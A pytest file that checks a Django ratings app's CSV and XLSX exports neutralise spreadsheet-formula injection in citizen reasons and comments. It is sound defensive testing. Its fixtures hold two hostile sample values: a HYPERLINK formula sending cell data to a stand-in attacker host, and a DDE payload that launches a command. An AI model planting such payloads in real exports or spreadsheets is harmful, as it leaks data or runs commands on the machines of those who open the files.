"""A citizen's reason or comment that begins like a formula is text in the leaders' CSV and XLSX exports."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.ratings.factories import RatingFactory

pytestmark = pytest.mark.django_db
EXPORT = "admin:ratings_rating_export"
HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm để xem")'


@pytest.fixture
def hostile_rating(tree, procedure, officer_a):  # type: ignore[no-untyped-def]
    return RatingFactory(
        unit=tree.unit_a,
        procedure=procedure,
        officer=officer_a,
        level=1,
        reason="@SUM(1+1)*cmd|' /C calc'!A0",
        comment=HOSTILE,
    )


def _client(user) -> Client:  # type: ignore[no-untyped-def]
    client = Client()
    client.force_login(user)
    return client


def test_the_csv_export_prefixes_formula_cells_with_a_quote(leader_a, hostile_rating):
    response = _client(leader_a).get(reverse(EXPORT), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_xlsx_export_stores_formula_text_as_text(provincial_admin, hostile_rating):
    response = _client(provincial_admin).get(reverse(EXPORT), {"format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + HOSTILE in [cell.value for cell in cells]
